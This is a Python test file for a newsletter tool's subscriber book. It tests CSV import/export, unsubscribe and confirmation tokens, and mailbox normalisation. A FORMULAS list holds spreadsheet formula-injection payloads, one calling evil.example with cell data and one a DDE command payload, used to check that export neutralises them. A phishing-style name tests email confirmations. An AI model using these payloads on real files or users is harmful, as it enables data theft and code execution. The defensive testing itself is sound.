"""The reader book: CSV import/export, config lists synced in, refusals kept for good, and
the whole loop: import, send, one-click unsubscribe, the next issue skips the reader."""

from __future__ import annotations

import csv
import email
import os
import pty
import subprocess
import sys
import time
from collections.abc import Callable
from datetime import UTC, datetime
from email import policy
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from newsletter_digest.addresses import mailbox_key
from newsletter_digest.cli import cli
from newsletter_digest.config.loading import load_config
from newsletter_digest.readers import book, csvio
from newsletter_digest.readers.tokens import Tokens, server_key
from newsletter_digest.state.store import open_state
from smtp_helpers import Server, configure
from test_serve import ONE_CLICK, Running, confirmation_link, tampered
from test_serve import configure as serve_configure

Digest = Callable[..., Result]


def statuses(project: Path) -> dict[str, str]:
    config = load_config(project / "digest.yaml")
    with open_state(config.settings.state) as state:
        return {r.address: r.status for r in book.readers(state)}


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def test_a_csv_with_bad_rows_imports_the_rest_and_names_them(project: Path, digest: Digest) -> None:
    export = write_csv(
        project / "listmonk.csv",
        ["uuid", "email", "name", "attributes", "status", "created_at", "updated_at"],
        [
            ["1", "ann@example.org", "Ann", "{}", "enabled", "2024-01-01", ""],
            ["2", "not an address", "X", "{}", "enabled", "", ""],  # line 3
            ["3", "bob@example.org", "Bob", "{}", "blocklisted", "", ""],
            ["4", "", "Nobody", "{}", "enabled", "", ""],  # line 5
            ["5", "cy@example.org", "Cy", "{}", "enabled", "", ""],
            ["6", "dee@example.org", "Dee", "{}", "maybe", "", ""],  # line 7
        ],
    )
    result = digest("readers", "import", str(export))
    assert result.exit_code == 0, result.output
    assert "3 new" in result.output
    for line in (3, 5, 7):
        assert f"listmonk.csv:{line}: skipped" in result.output
    assert "3 rows skipped" in result.output
    got = statuses(project)
    assert got["ann@example.org"] == "active" and got["cy@example.org"] == "active"
    assert got["bob@example.org"] == "unsubscribed"
    again = digest("readers", "import", str(export))
    assert "0 new, 3 unchanged (already readers)" in again.output
    assert statuses(project) == got


def test_a_mailchimp_export_imports_as_it_is(project: Path, digest: Digest) -> None:
    subscribed = write_csv(
        project / "subscribed_members_export_1a2b.csv",
        ["Email Address", "First Name", "Last Name", "MEMBER_RATING", "OPTIN_TIME"],
        [["ann@example.org", "Ann", "Lee", "2", "2024-01-01 10:00:00"]],
    )
    cleaned = write_csv(
        project / "cleaned_members_export_1a2b.csv",
        ["Email Address", "First Name", "Last Name", "CLEAN_TIME"],
        [["gone@example.org", "", "", "2024-02-01"]],
    )
    assert digest("readers", "import", str(subscribed)).exit_code == 0
    assert digest("readers", "import", str(cleaned)).exit_code == 0
    listed = digest("readers", "list").output
    assert '"Ann Lee" <ann@example.org>' in listed
    assert statuses(project)["gone@example.org"] == "bounced"


def test_export_writes_what_import_reads(project: Path, digest: Digest) -> None:
    assert digest("readers", "add", "Zoë <zoe@example.org>").exit_code == 0
    assert digest("readers", "remove", "zoe@example.org").exit_code == 0
    out = project / "out.csv"
    assert digest("readers", "export", str(out)).exit_code == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    zoe = next(r for r in rows if r["email"] == "zoe@example.org")
    assert (zoe["name"], zoe["status"]) == ("Zoë", "unsubscribed")


def test_a_refusal_is_kept_whatever_lists_and_imports_say(project: Path, digest: Digest) -> None:
    """reader@example.org is in digest.yaml's recipients; removed, it stays removed."""
    assert digest("readers", "remove", "READER@example.org").exit_code == 0
    added = digest("readers", "add", "reader@example.org")
    assert added.exit_code == 1 and "stays so" in added.output
    export = write_csv(
        project / "in.csv", ["email", "status"], [["reader@example.org", "subscribed"]]
    )
    assert digest("readers", "import", str(export)).exit_code == 0
    assert digest("readers", "list").exit_code == 0  # syncs digest.yaml's list again
    assert statuses(project)["reader@example.org"] == "unsubscribed"


def test_a_reader_dropped_from_the_config_gets_nothing_but_keeps_the_row(
    project: Path, digest: Digest
) -> None:
    assert "reader@example.org" in digest("readers", "list").output
    config = project / "digest.yaml"
    config.write_text(config.read_text().replace("[reader@example.org]", "[a@example.org]"))
    listed = digest("readers", "list").output
    assert "(no longer in the config)" in listed and "reader@example.org" in listed


def test_check_warns_that_one_click_needs_base_url(project: Path, digest: Digest) -> None:
    result = digest("check")
    assert "one-click unsubscribe" in result.output and "base_url" in result.output


def test_import_send_unsubscribe_and_the_next_issue_skips_the_reader(
    project: Path, digest: Digest, servers: Callable[..., Server]
) -> None:
    smtp = servers()
    configure(project, smtp.port, recipients=[])
    config = project / "digest.yaml"
    text = (
        config.read_text()
        .replace("recipients:\n", "")
        .replace('unsubscribe: "https://example.org/unsubscribe?email={email}"\n', "")
    )
    config.write_text(text + "base_url: https://news.example.org\n")
    export = write_csv(
        project / "readers.csv",
        ["email", "name"],
        [["ann@example.org", "Ann"], ["bob@example.org", "Bob"], ["cy@example.org", "Cy"]],
    )
    assert digest("readers", "import", str(export)).exit_code == 0
    first = digest("build")
    assert first.exit_code == 0, first.output
    assert sorted(smtp.handler.recipients()) == [
        "ann@example.org",
        "bob@example.org",
        "cy@example.org",
    ]
    received = next(r for r in smtp.handler.received if r.rcpt_tos == ["bob@example.org"])
    message = email.message_from_bytes(received.data, policy=policy.default)
    assert message["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    url = message["List-Unsubscribe"].strip("<>")
    assert url.startswith("https://news.example.org/unsubscribe/")
    assert "bob" not in url  # the token carries no address
    html = message.get_body(("html",))
    assert html is not None and url in html.get_content()  # the footer link is the same
    running = Running(project)
    try:
        response = running.client.post(urlsplit(url).path, data=ONE_CLICK)
    finally:
        running.stop()
    assert response.status_code == 200
    smtp.handler.received.clear()
    second = digest("build")
    assert second.exit_code == 0, second.output
    assert sorted(smtp.handler.recipients()) == ["ann@example.org", "cy@example.org"]


STATES = ("active", "unconfirmed", "unsubscribed", "bounced", "complained")
# What a valid link does to a reader in each state: (the answer, the status after). A
# suppressed reader keeps the status that says most; a confirmation acts only on a reader
# still unconfirmed (here every link was made before the reader got to their state).
ACTS = {
    "unsubscribe": {
        "active": (200, "unsubscribed"),
        "unconfirmed": (200, "unsubscribed"),
        "unsubscribed": (200, "unsubscribed"),
        "bounced": (200, "bounced"),
        "complained": (200, "complained"),
    },
    "confirm": {
        "active": (400, "active"),
        "unconfirmed": (200, "active"),
        "unsubscribed": (400, "unsubscribed"),
        "bounced": (400, "bounced"),
        "complained": (400, "complained"),
    },
}
PRESS = {"unsubscribe": ONE_CLICK, "confirm": {"confirm": "yes"}}


def moment(seconds_ago: float) -> str:
    return datetime.fromtimestamp(time.time() - seconds_ago, UTC).isoformat(timespec="seconds")


def signer(project: Path, seconds_ago: float = 0) -> Tokens:
    """The server's tokens, made as if ``seconds_ago`` seconds ago."""
    config = load_config(project / "digest.yaml")
    key = server_key(config.settings.state)
    return Tokens(key, clock=lambda: time.time() - seconds_ago)


def add_reader(project: Path, address: str, status: str, changed: str) -> book.Reader:
    config = load_config(project / "digest.yaml")
    with open_state(config.settings.state) as state:
        return book.add(state, address, source="import", now=changed, status=status)[0]


def test_every_token_purpose_against_every_reader_state(project: Path, digest: Digest) -> None:
    serve_configure(project, "serve:\n  requests_per_minute: 1000\n")
    assert digest("build").exit_code == 0
    made_earlier = signer(project, seconds_ago=3600)
    running = Running(project)
    try:
        for purpose, acts in ACTS.items():
            for status, (code, after) in acts.items():
                address = f"{purpose}-{status}@example.org"
                reader = add_reader(project, address, status, moment(0))
                token = made_earlier.make(reader, purpose)
                for bad in tampered(token):
                    assert (
                        running.client.post(f"/{purpose}/{bad}", data=PRESS[purpose]).status_code
                        == 400
                    )
                assert running.client.get(f"/{purpose}/{token}").status_code == code, address
                assert statuses(project)[address] == status  # a GET changes nothing
                answer = running.client.post(f"/{purpose}/{token}", data=PRESS[purpose])
                assert (answer.status_code, statuses(project)[address]) == (code, after), address
            ghost = book.Reader(
                9999, "ghost@example.org", "", "active", "cli", True, None, "", "", "", "x"
            )
            unknown = running.client.post(
                f"/{purpose}/{made_earlier.make(ghost, purpose)}", data=PRESS[purpose]
            )
            assert unknown.status_code == 400
    finally:
        running.stop()
    assert "ghost@example.org" not in statuses(project)


def test_confirmation_links_expire_and_a_reader_who_left_may_ask_again(
    project: Path, digest: Digest
) -> None:
    serve_configure(project, "serve:\n  requests_per_minute: 1000\n  confirm_within: 2d\n")
    assert digest("build").exit_code == 0
    day = 86400
    waiting = add_reader(project, "waiting@example.org", "unconfirmed", moment(4 * day))
    came_back = add_reader(project, "back@example.org", "unsubscribed", moment(2 * 3600))
    running = Running(project)
    try:
        expired = signer(project, seconds_ago=3 * day).make(waiting, "confirm")
        assert running.client.get(f"/confirm/{expired}").status_code == 400
        assert (
            running.client.post(f"/confirm/{expired}", data={"confirm": "yes"}).status_code == 400
        )
        assert statuses(project)["waiting@example.org"] == "unconfirmed"
        fresh = signer(project, seconds_ago=day).make(waiting, "confirm")
        assert running.client.post(f"/confirm/{fresh}", data={"confirm": "yes"}).status_code == 200
        assert statuses(project)["waiting@example.org"] == "active"
        # A reader who left, then asked again through the form: the new link works.
        again = signer(project).make(came_back, "confirm")
        assert running.client.post(f"/confirm/{again}", data={"confirm": "yes"}).status_code == 200
        assert statuses(project)["back@example.org"] == "active"
    finally:
        running.stop()


def other_project(project: Path) -> Callable[..., Result]:
    """A second project beside ``project`` (its own state), to import what the first wrote."""
    folder = project / "other"
    folder.mkdir()
    (folder / "digest.yaml").write_text((project / "digest.yaml").read_text(), encoding="utf-8")
    runner = CliRunner()
    return lambda *args: runner.invoke(cli, ["--config", str(folder / "digest.yaml"), *args])


def names(project: Path) -> dict[str, str]:
    config = load_config(project / "digest.yaml")
    with open_state(config.settings.state) as state:
        return {r.address: r.name for r in book.readers(state)}


FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted",
    "''-twice",
    "'plain with a quote",
]


def test_export_neutralises_formulas_and_a_round_trip_keeps_every_cell(
    project: Path, digest: Digest
) -> None:
    for n, name in enumerate(FORMULAS):
        assert digest("readers", "add", f"r{n}@example.org", "--name", name).exit_code == 0
    assert digest("readers", "add", "--name", "Dash", "--", "-dash@example.org").exit_code == 0
    out = project / "out.csv"
    assert digest("readers", "export", str(out)).exit_code == 0
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    for row in rows:
        for cell in row:  # no cell a spreadsheet would run
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    exported = {row[0]: row[1] for row in rows[1:]}
    assert exported["r0@example.org"] == "'" + FORMULAS[0]
    assert exported["r4@example.org"] == "''=already quoted"
    assert exported["r6@example.org"] == "'plain with a quote"  # not a formula: as it is
    assert "'-dash@example.org" in exported
    # Imported elsewhere and exported again: the same names, and no quote grows.
    other = other_project(project)
    imported = other("readers", "import", str(out))
    assert imported.exit_code == 0, imported.output
    assert names(project / "other") == names(project)
    again = project / "again.csv"
    assert other("readers", "export", str(again)).exit_code == 0
    cells = [row[:2] for row in csv.reader(again.open(encoding="utf-8", newline=""))]
    assert cells == [row[:2] for row in rows]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=st.text(alphabet=st.sampled_from("'=+-@ \tab\rc\"xy,"), max_size=12))
def test_any_name_survives_export_and_import_and_is_never_a_formula(
    tmp_path_factory: pytest.TempPathFactory, name: str
) -> None:
    folder = tmp_path_factory.mktemp("book")
    with open_state(folder / "a.db") as first:
        reader, _ = book.add(first, "ann@example.org", name=name, source="cli", now="2026-12-01")
        csvio.export_file(first, folder / "out.csv")
    cell = next(iter(csv.DictReader((folder / "out.csv").open(newline=""))))["name"]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    with open_state(folder / "b.db") as second:
        csvio.import_file(second, folder / "out.csv", "2026-12-02")
        copy = book.find(second, "ann@example.org")
        assert copy is not None and copy.name == reader.name


@pytest.mark.parametrize(
    ("lookalike", "real"),
    [
        ("\u212aim@example.com", "kim@example.com"),  # KELVIN SIGN
        ("stra\u00dfe@example.com", "strasse@example.com"),  # sharp s
        ("\ufb01@example.com", "fi@example.com"),  # the fi ligature
        ("\u0130nfo@example.com", "i\u0307nfo@example.com"),  # dotted capital I
    ],
)
def test_a_look_alike_user_name_is_another_mailbox(
    project: Path, digest: Digest, lookalike: str, real: str
) -> None:
    assert digest("readers", "add", real).exit_code == 0
    removed = digest("readers", "remove", lookalike)
    assert removed.exit_code == 1 and "is not a reader" in removed.output
    assert statuses(project)[real] == "active"
    assert digest("readers", "add", lookalike).exit_code == 0  # a reader of its own
    assert digest("readers", "remove", lookalike).exit_code == 0
    got = statuses(project)
    assert (got[real], got[lookalike]) == ("active", "unsubscribed")
    # ASCII case and the domain's spellings are still one mailbox.
    assert digest("readers", "remove", real.upper().replace("EXAMPLE", "Example")).exit_code == 0
    assert statuses(project)[real] == "unsubscribed"


def test_a_unicode_domain_and_its_idna_form_are_one_reader(project: Path, digest: Digest) -> None:
    assert digest("readers", "add", "jo@bücher.example").exit_code == 0
    again = digest("readers", "add", "JO@XN--BCHER-KVA.example")
    assert "already a reader" in again.output
    assert digest("readers", "remove", "jo@BÜCHER.example").exit_code == 0
    got = statuses(project)
    assert got == {"reader@example.org": "active", "jo@bücher.example": "unsubscribed"}


def test_an_unquoted_name_with_an_at_sign_is_refused_everywhere(
    project: Path, digest: Digest
) -> None:
    added = digest("readers", "add", "billing@corp.example <ann@example.org>")
    assert added.exit_code == 1 and "must be in double quotes" in added.output
    assert "Traceback" not in added.output
    quoted = digest("readers", "add", '"billing@corp.example" <ann@example.org>')
    assert quoted.exit_code == 0, quoted.output
    assert digest("readers", "add", "billing@corp.example").exit_code == 0
    removed = digest("readers", "remove", "billing@corp.example <ann@example.org>")
    assert removed.exit_code == 1 and "is not a reader" in removed.output
    assert statuses(project)["billing@corp.example"] == "active"
    export = write_csv(
        project / "in.csv",
        ["email", "name"],
        [["bob@example.org", "Bob"], ["billing@corp.example <cy@example.org>", ""]],
    )
    imported = digest("readers", "import", str(export))
    assert imported.exit_code == 0
    assert "in.csv:3: skipped" in imported.output and "double quotes" in imported.output
    assert set(statuses(project)) == {
        "reader@example.org",
        "ann@example.org",
        "billing@corp.example",
        "bob@example.org",
    }


# User names from letters that Unicode folding confuses with ASCII ones, and domains
# written in Unicode, either case.
LOCALS = st.text(
    st.sampled_from("aAkKsSiIfF\u212a\u00df\u017f\u0131\u0130\ufb01\u00e9\u0301+-_0"),
    min_size=1,
    max_size=8,
)
LABELS = st.text(st.sampled_from("abkBKü\u00dc\u00e9-"), min_size=1, max_size=6).filter(
    lambda label: not label.startswith("-") and not label.endswith("-")
)


def ascii_case(text: str) -> str:
    """The oracle: A-Z as a-z, every other character as it is."""
    return "".join(chr(ord(c) + 32) if "A" <= c <= "Z" else c for c in text)


def swap_ascii(text: str) -> str:
    return "".join(c.swapcase() if c.isascii() else c for c in text)


@settings(max_examples=300, deadline=None)
@given(first=LOCALS, second=LOCALS, label=LABELS)
@example(first="\u212aim", second="kim", label="example")
def test_distinct_mailboxes_never_share_a_key(first: str, second: str, label: str) -> None:
    domain = f"{label}.example"
    if ascii_case(first) != ascii_case(second):
        assert mailbox_key(f"{first}@{domain}") != mailbox_key(f"{second}@{domain}")
    else:
        assert mailbox_key(f"{first}@{domain}") == mailbox_key(f"{second}@{domain}")


@settings(max_examples=300, deadline=None)
@given(local=LOCALS, label=LABELS)
@example(local="Kim", label="bücher")
def test_ascii_case_and_idna_spellings_of_one_mailbox_share_a_key(local: str, label: str) -> None:
    domain = f"{label}.example"
    try:
        idna = domain.encode("idna").decode("ascii")
    except UnicodeError:
        return  # not a domain mail can go to
    key = mailbox_key(f"{local}@{domain}")
    assert mailbox_key(f"{swap_ascii(local)}@{domain.upper()}") == key
    assert mailbox_key(f"{local}@{idna}") == key
    assert mailbox_key(f"{local}@{idna.upper()}") == key
    assert mailbox_key(f'"Any Name" <{local}@{domain}>') == key


def test_a_confirmation_carries_no_name_from_the_form(project: Path, digest: Digest) -> None:
    """Anyone can type a name; our confirmation, from our domain, must not say it."""
    serve_configure(project, "serve:\n  subscribe: true\n  requests_per_minute: 1000\n")
    assert digest("build").exit_code == 0
    running = Running(project)
    name = "URGENT Your account is locked, call +1 555 0100"
    try:
        answer = running.client.post("/subscribe", data={"email": "new@example.org", "name": name})
        assert answer.status_code == 200
        confirmation_link(project, "new@example.org")
    finally:
        running.stop()
    (notice,) = (project / "outbox" / "notices").glob("*.eml")
    raw = notice.read_bytes()
    message = email.message_from_bytes(raw, policy=policy.default)
    (to,) = message["To"].addresses
    assert (to.display_name, to.addr_spec) == ("", "new@example.org")
    shown = [str(value) for _, value in message.items()]
    shown += [part.get_content() for part in message.walk() if not part.is_multipart()]
    assert not any("URGENT" in text or "locked" in text for text in shown)
    assert names(project)["new@example.org"] == name  # the book keeps it, for the reader


def test_an_import_shows_a_progress_bar_on_a_terminal_only(project: Path, digest: Digest) -> None:
    export = write_csv(
        project / "many.csv", ["email"], [[f"r{n}@example.org"] for n in range(12_000)]
    )
    quiet = digest("readers", "import", str(export))
    assert quiet.exit_code == 0 and "%" not in quiet.output and "importing" not in quiet.output
    main, terminal = pty.openpty()
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    command = [sys.executable, "-m", "newsletter_digest", "--config", str(project / "digest.yaml")]
    try:
        done = subprocess.run(
            [*command, "readers", "import", str(export)],
            stdout=subprocess.PIPE,
            stderr=terminal,
            env=env,
            timeout=120,
            check=True,
        )
        os.set_blocking(main, False)
        shown = os.read(main, 1 << 20).decode()
    finally:
        os.close(main)
        os.close(terminal)
    assert "0 new, 12000 unchanged (already readers)" in done.stdout.decode()
    assert "importing many.csv" in shown and "100%" in shown


def test_a_long_import_counts_every_outcome_across_its_batches(
    project: Path, digest: Digest
) -> None:
    """Rows in batches of thousands: a refusal late in the file still wins over an earlier
    'active' row, a refusal already in the book is kept, and each outcome is counted once."""
    assert digest("readers", "add", "gone@example.org").exit_code == 0
    assert digest("readers", "remove", "gone@example.org").exit_code == 0
    rows = [[f"r{n}@example.org", "subscribed"] for n in range(11_000)]
    rows[10] = ["reader@example.org", "subscribed"]  # from digest.yaml: already active
    rows[20] = ["gone@example.org", "subscribed"]  # unsubscribed: stays so
    rows.append(["r5@example.org", "unsubscribed"])  # in the first batch, refused in the last
    rows.append(["r9000@example.org", "cleaned"])
    export = write_csv(project / "big.csv", ["email", "status"], rows)
    result = digest("readers", "import", str(export))
    assert result.exit_code == 0, result.output
    assert (
        "10998 new, 1 unsubscribed, 1 bounced, 1 kept unsubscribed (a refusal stays),"
        " 1 unchanged (already readers)"
    ) in result.output
    got = statuses(project)
    assert (got["r5@example.org"], got["r9000@example.org"]) == ("unsubscribed", "bounced")
    assert got["gone@example.org"] == "unsubscribed" and got["r6@example.org"] == "active"
